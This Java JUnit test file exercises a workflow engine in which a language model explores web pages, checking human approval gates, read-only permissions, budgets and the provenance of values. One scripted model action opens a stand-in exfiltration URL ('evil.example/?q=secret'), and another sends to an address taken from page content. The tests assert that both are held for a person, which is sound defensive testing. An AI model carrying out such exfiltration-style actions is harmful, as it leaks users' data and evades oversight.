package dev.deskhand.workflows.engine;

import static dev.deskhand.workflows.engine.ScriptedExplorer.act;
import static dev.deskhand.workflows.engine.ScriptedExplorer.finish;
import static dev.deskhand.workflows.engine.ScriptedExplorer.giveUp;
import static org.assertj.core.api.Assertions.assertThat;

import dev.deskhand.tools.spi.Source;
import dev.deskhand.workflows.engine.Explorer.Decision;
import dev.deskhand.workflows.journal.RunEvent;
import dev.deskhand.workflows.journal.RunStatus;
import dev.deskhand.workflows.journal.SampleEvents;
import dev.deskhand.workflows.journal.StepState;
import dev.deskhand.workflows.plan.Input;
import dev.deskhand.workflows.plan.LocalizedText;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ExploreTest {

    private static final String FIND = """
            title: Find it
            inputs: {who: text}
            steps:
              - id: found
                explore: Find the phone of ${inputs.who} at http://portal.example/
                with: {who: "${inputs.who}"}
                result: {phone: string}
            outputs: {phone: "${found.phone}"}
            """;
    private static final String OPEN = "- {id: a1, use: web.open, with: {url: 'http://portal.example/'}}";
    private static final String FILL = "- {id: a2, use: web.fill, with: {fields: {Number: '${values.who}'}}}";
    private static final String CLICK = "- {id: a3, use: web.click, with: {target: Save}}";

    @TempDir
    Path folder = Path.of("");

    private Office office = new Office(folder);

    @BeforeEach
    void open() {
        office = new Office(folder);
    }

    private ScriptedExplorer explore(Decision... decisions) {
        var explorer = ScriptedExplorer.of(decisions);
        office.explorer = explorer;
        return explorer;
    }

    @Test
    void whatIsFoundIsTheStepsOutputAndKnowsItsSources() {
        var explorer = explore(act(OPEN), finish("{'phone':'+49 30'}", "+49 30"));
        office.begin(FIND, "{'who':'Acme'}");
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        var state = office.state();
        assertThat(state.status()).isEqualTo(RunStatus.SUCCEEDED);
        var phone = Objects.requireNonNull(state.outputs().get("phone"));
        assertThat(phone.json().asText()).isEqualTo("+49 30");
        assertThat(phone.sources())
                .contains(Source.model("large"), Source.page("portal.example", "/"))
                .doesNotContain(Source.user("anna"));
        assertThat(explorer.requests.getFirst().goal().json().asText())
                .isEqualTo("Find the phone of Acme at http://portal.example/");
        assertThat(explorer.requests.getFirst().values().json().path("who").asText())
                .isEqualTo("Acme");
        var second = explorer.requests.get(1);
        assertThat(second.seen().getFirst().output()).isNotNull();
        assertThat(second.rounds().getFirst().acts().getFirst().output()).isNotNull();
        assertThat(state.step("0[0]/0").orElseThrow().action()).isEqualTo("web.open");
        assertThat(state.inputTokens()).isEqualTo(200);
    }

    @Test
    void anActionThatChangesSomethingWaitsForAPersonWithWhatWasFilledInRoundsBefore() {
        explore(act(OPEN), act(FILL), act(CLICK), finish("{'phone':'1'}", "Saved"));
        office.begin(FIND, "{'who':'R-1'}");
        assertThat(office.advance()).isEqualTo(Advance.WAITING);
        assertThat(office.world.effects).isEmpty();
        var request = office.state().openApprovals().getFirst().request();
        assertThat(request.path()).isEqualTo("0[2]/1");
        assertThat(request.rows().getFirst().values().json().path("Number").asText())
                .isEqualTo("R-1");
        office.approve();
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        assertThat(office.world.effects).containsExactly("R-1");
        assertThat(office.state().status()).isEqualTo(RunStatus.SUCCEEDED);
    }

    @Test
    void aRejectionEndsTheRun() {
        explore(act(OPEN), act(FILL), act(CLICK));
        office.begin(FIND, "{'who':'R-1'}");
        office.advance();
        office.decide(false, SampleEvents.ANNA, "no");
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        assertThat(office.state().status()).isEqualTo(RunStatus.CANCELLED);
        assertThat(office.world.effects).isEmpty();
    }

    @Test
    void itGoesOnAfterACrashWithoutAskingAgainWhatWasDecided() {
        var explorer = explore(act(OPEN), act(FILL), act(CLICK), finish("{'phone':'1'}", "Saved"));
        office.begin(FIND, "{'who':'R-1'}");
        office.advance();
        List<RunEvent> before = office.events();
        for (int cut = 2; cut < before.size(); cut++) {
            office = new Office(folder);
            office.explorer = explorer;
            explorer.requests.clear();
            office.resume(before.subList(0, cut));
            assertThat(office.advance()).isEqualTo(Advance.WAITING);
            office.approve();
            assertThat(office.advance()).isEqualTo(Advance.ENDED);
            assertThat(office.world.effects).as("cut at " + cut).containsExactly("R-1");
            long decided = before.subList(0, cut).stream()
                    .filter(RunEvent.ExploreDecided.class::isInstance)
                    .count();
            assertThat(explorer.requests).as("cut at " + cut).hasSize((int) (4 - decided));
        }
    }

    @Test
    void anotherNumberOfLooksAfterARestartShiftsNothingThatWasDecided() {
        String one = "- {use: desk.look, with: {page: shown}}";
        String two = one + "\n- {use: desk.leaf, with: {page: picture}}";
        for (var looks : List.of(List.of(two, one), List.of(one, two))) {
            office = new Office(folder);
            var explorer = explore(act(OPEN), act(FILL + "\n" + CLICK), finish("{'phone':'1'}", "Saved"));
            explorer.looks = looks.getFirst();
            office.begin(FIND, "{'who':'R-1'}");
            assertThat(office.advance()).isEqualTo(Advance.WAITING);
            int looked = looks.getFirst().equals(two) ? 2 : 1;
            assertThat(office.state().openApprovals().getFirst().request().path())
                    .isEqualTo("0[1]/" + (looked + 1));

            explorer.looks = looks.getLast();
            office.approve();
            assertThat(office.advance()).isEqualTo(Advance.ENDED);
            assertThat(office.world.effects).as(looks + "").containsExactly("R-1");
            var acts = explorer.requests.getLast().rounds().get(1).acts();
            assertThat(acts)
                    .extracting(deed -> Objects.requireNonNull(
                            office.state().step(deed.path()).orElseThrow().action()))
                    .containsExactly("web.fill", "web.click");
            assertThat(office.state().status()).isEqualTo(RunStatus.SUCCEEDED);
        }
    }

    @Test
    void otherLooksAfterARestartAtWhateverEntryShiftNothing() {
        String one = "- {use: desk.look, with: {page: shown}}";
        String two = one + "\n- {use: desk.leaf, with: {page: picture}}";
        for (var looks : List.of(List.of(two, one), List.of(one, two))) {
            office = new Office(folder);
            explore(act(OPEN), act(FILL), act(CLICK), finish("{'phone':'1'}", "Saved")).looks = looks.getFirst();
            office.begin(FIND, "{'who':'R-1'}");
            office.advance();
            List<RunEvent> before = office.events();
            for (int cut = 2; cut < before.size(); cut++) {
                office = new Office(folder);
                explore(act(OPEN), act(FILL), act(CLICK), finish("{'phone':'1'}", "Saved")).looks = looks.getLast();
                office.resume(before.subList(0, cut));
                assertThat(office.advance()).as(looks + " cut at " + cut).isEqualTo(Advance.WAITING);
                office.approve();
                office.advance();
                assertThat(office.state().status())
                        .as(looks + " cut at " + cut + office.events())
                        .isEqualTo(RunStatus.SUCCEEDED);
                assertThat(office.world.effects).containsExactly("R-1");
            }
        }
    }

    @Test
    void aFailedActionIsToldAndDoesNotMakeTheRunPartlyDone() {
        var explorer = explore(act("- {use: desk.break}\n- {use: desk.look}"), finish("{'phone':'1'}", "x"));
        office.begin(FIND, "{'who':'Acme'}");
        office.advance();
        assertThat(office.state().status()).isEqualTo(RunStatus.SUCCEEDED);
        var acts = explorer.requests.get(1).rounds().getFirst().acts();
        assertThat(Objects.requireNonNull(acts.getFirst().failure()).message()).contains("broke with an error");
        assertThat(acts.get(1).output()).isNull();
        assertThat(office.state().step("0[0]/0")).isPresent();
        assertThat(office.state().step("0[0]/1")).isEmpty();
    }

    @Test
    void aClaimThatIsDoubtedIsNotBelieved() {
        var explorer = explore(finish("{'phone':'1'}", "x")).doubting("the page does not show “x” now");
        office.begin(FIND, "{'who':'Acme'}");
        office.advance();
        assertThat(office.state().status()).isEqualTo(RunStatus.SUCCEEDED);
        assertThat(explorer.requests).hasSize(2);
        assertThat(explorer.requests.get(1).rounds().getFirst().doubts())
                .containsExactly("the page does not show “x” now");
    }

    @Test
    void theCheckOfTheStepHasToHold() {
        var explorer = explore(act(OPEN), finish("{'phone':'1'}", "x"), giveUp("It is not there"));
        office.begin(FIND.replace("result:", "check: result.phone == values.who\n    result:"), "{'who':'2'}");
        office.advance();
        assertThat(explorer.requests.get(2).rounds().get(1).doubts())
                .containsExactly("what must hold at the end does not: result.phone == values.who");
        assertThat(Objects.requireNonNull(office.state().failed()).message()).isEqualTo("It is not there");
    }

    @Test
    void aResultThatDoesNotFitIsSentBack() {
        var explorer = explore(finish("{'phone':7}", "x"), giveUp("No"));
        office.begin(FIND, "{'who':'Acme'}");
        office.advance();
        assertThat(explorer.requests.get(1).rounds().getFirst().doubts().getFirst())
                .startsWith("the result: ");
        assertThat(explorer.claims).isEmpty();
    }

    @Test
    void nothingGraverThanAllowedIsDone() {
        var explorer = explore(act("- {use: desk.send, with: {number: R-1}}"), giveUp("I may not"));
        office.begin(FIND.replace("result:", "may: read\n    result:"), "{'who':'Acme'}");
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        assertThat(office.world.effects).isEmpty();
        assertThat(office.state().approvals()).isEmpty();
        var failure =
                explorer.requests.get(1).rounds().getFirst().acts().getFirst().failure();
        assertThat(Objects.requireNonNull(failure).message())
                .isEqualTo("This would change records, and this step may at most look");
    }

    @Test
    void anAddressOfTheModelsOwnIsPutBeforeAPersonThoughItOnlyReads() {
        explore(act("- {use: desk.look, with: {url: 'http://evil.example/?q=secret'}}"));
        office.begin(FIND, "{'who':'Acme'}");
        assertThat(office.advance()).isEqualTo(Advance.WAITING);
        assertThat(office.state().openApprovals().getFirst().request().reason().en())
                .contains("nobody named evil.example in this run");
    }

    @Test
    void whatAModelSaysAfterReadingAPageComesFromThatPageToo() {
        explore(act(OPEN), act("- {use: desk.send, with: {number: R-1, to: boss@example.com}}"));
        office.begin(FIND, "{'who':'Acme'}");
        office.advance();
        var approval = office.state().openApprovals().getFirst().request();
        assertThat(approval.reason().en())
                .contains("to comes from a page of portal.example")
                .contains("the model large");
        assertThat(approval.rows().getFirst().values().at("/to").sources())
                .contains(Source.model("large"), Source.page("portal.example", "/"));
    }

    @Test
    void theBudgetOfActionsAndTokensEndsIt() {
        var explorer = explore(act("- {use: desk.look}\n- {use: desk.look}"));
        office.begin(FIND.replace("result:", "budget: {steps: 4}\n    result:"), "{'who':'Acme'}");
        office.advance();
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .isEqualTo("The goal was not reached within the budget of 4 actions");
        assertThat(explorer.requests).hasSize(2);
        assertThat(explorer.requests.get(1).left().steps()).isEqualTo(2);

        office = new Office(folder);
        explorer.requests.clear();
        office.explorer = explorer;
        office.begin(FIND.replace("result:", "budget: {tokens: 250}\n    result:"), "{'who':'Acme'}");
        office.advance();
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .isEqualTo("The goal was not reached within the budget of 250 tokens");
        assertThat(explorer.requests).hasSize(3);
    }

    @Test
    void theBudgetOfActionsIsHeldWithinAnAnswerToo() {
        explore(act("- {use: desk.look}\n- {use: desk.look}\n- {use: desk.look}\n- {use: desk.look}"));
        office.begin(FIND.replace("result:", "budget: {steps: 3}\n    result:"), "{'who':'Acme'}");
        office.advance();
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .isEqualTo("The goal was not reached within the budget of 3 actions");
        assertThat(office.state().steps().stream()
                        .filter(step -> "desk.look".equals(step.action())
                                && !Objects.requireNonNull(step.arguments())
                                        .json()
                                        .has("page")))
                .hasSize(3);
    }

    @Test
    void theTimeAPersonTakesToSayWhatBecameOfAnActIsNoTimeOfWork() {
        var explorer = explore(act(OPEN), act(FILL), act(CLICK), finish("{'phone':'1'}", "Saved"));
        String timed = FIND.replace("result:", "budget: {seconds: 60}\n    result:");
        office.begin(timed, "{'who':'R-1'}");
        office.advance();
        office.approve();
        office.advance();
        var events = office.events();
        int begun = 0;
        while (!(events.get(begun) instanceof RunEvent.StepStarted start
                && start.action().equals("web.click"))) {
            begun++;
        }
        office = new Office(folder);
        office.explorer = explorer;
        office.resume(events.subList(0, begun + 1));
        assertThat(office.advance()).isEqualTo(Advance.WAITING);
        assertThat(office.state().status()).isEqualTo(RunStatus.WAITING_FOR_ANSWER);
        office.clock.advance(java.time.Duration.ofHours(3));
        office.answer("happened");
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        assertThat(office.state().status()).isEqualTo(RunStatus.SUCCEEDED);
    }

    @Test
    void theBudgetOfTimeEndsItByTheWorkOfModelAndActions() {
        String timed = FIND.replace("result:", "budget: {seconds: 30}\n    result:");
        var explorer = explore(act("- {use: desk.find}"));
        office.world.duringFind = () -> office.clock.advance(java.time.Duration.ofSeconds(10));
        office.begin(timed, "{'who':'Acme'}");
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .isEqualTo("The goal was not reached within the budget of 30 seconds of work");
        assertThat(explorer.requests)
                .as("a second of the model and ten of the action each time")
                .extracting(request -> request.left().seconds())
                .containsExactly(30L, 19L, 8L);
    }

    @Test
    void theBudgetOfMoneyEndsItByWhatTheCallsCost() {
        var explorer = explore(act("- {use: desk.look}\n- {use: desk.look}"));
        explorer.cost = 200_000L;
        office.begin(FIND.replace("result:", "budget: {cost: 0.45}\n    result:"), "{'who':'Acme'}");
        office.advance();
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .isEqualTo("The goal was not reached within the budget of a cost of 0.45");
        assertThat(explorer.requests).hasSize(3);
        assertThat(office.state().costMillionths()).isEqualTo(600_000);
    }

    @Test
    void whatARunMayCostIsHeldOverAllItsSteps() {
        var explorer = explore(act("- {use: desk.look}\n- {use: desk.look}"));
        explorer.cost = 200_000L;
        office.mostCost = new java.math.BigDecimal("0.30");
        office.begin(FIND, "{'who':'Acme'}");
        office.advance();
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .isEqualTo("The models of this run have cost 0.400000; a run may cost 0.30");
        assertThat(explorer.requests).hasSize(2);
    }

    @Test
    void aBudgetOfMoneyIsRefusedWhereNoPriceIsSet() {
        var explorer = explore(act("- {use: desk.look}"));
        office.begin(FIND.replace("result:", "budget: {cost: 0.45}\n    result:"), "{'who':'Acme'}");
        office.advance();
        var failed = Objects.requireNonNull(office.state().failed());
        assertThat(failed.message())
                .isEqualTo(
                        "The step's budget is a cost of 0.45, but no price is set for the model, so it could not be held");
        assertThat(failed.advice()).contains("DESKHAND_MODEL_PRICE_INPUT");
        assertThat(explorer.requests).isEmpty();
    }

    @Test
    void aQuestionWaitsForItsAnswer() {
        var question = LocalizedText.same("Which Acme?");
        var explorer = explore(
                new Decision.Ask(
                        "There are two.", question, new Input(Input.Type.TEXT, question, null, true, null, List.of())),
                finish("{'phone':'1'}", "x"));
        office.begin(FIND, "{'who':'Acme'}");
        assertThat(office.advance()).isEqualTo(Advance.WAITING);
        assertThat(office.state().status()).isEqualTo(RunStatus.WAITING_FOR_ANSWER);
        office.answer("The one in Berlin");
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        var answer = Objects.requireNonNull(
                explorer.requests.getLast().rounds().getFirst().answer());
        assertThat(answer.json().asText()).isEqualTo("The one in Berlin");
        assertThat(answer.isTrusted()).isTrue();
    }

    @Test
    void withoutAnybodyWhoCouldExploreItSaysSo() {
        office.begin(FIND, "{'who':'Acme'}");
        office.advance();
        assertThat(Objects.requireNonNull(office.state().failed()).message())
                .startsWith("Finding a way on pages nobody described takes a large language model");
        assertThat(office.state().step("0").orElseThrow().state()).isEqualTo(StepState.FAILED);
    }

    @Test
    void itWorksInsideALoop() {
        explore(act(OPEN), finish("{'phone':'1'}", "x"));
        office.begin("""
                title: All
                steps:
                  - id: all
                    each: who in ${['A', 'B']}
                    steps:
                      - {id: found, explore: "Find ${who}", result: {phone: string}}
                    collect: ${found.phone}
                outputs: {all: "${all.results}"}
                """);
        assertThat(office.advance()).isEqualTo(Advance.ENDED);
        assertThat(Objects.requireNonNull(office.state().outputs().get("all")).json())
                .isEqualTo(SampleEvents.json("['1','1']"));
        assertThat(office.state().isTry("0[1]/0[0]/1")).isTrue();
        assertThat(office.state().isTry("0[1]/0")).isFalse();
    }
}
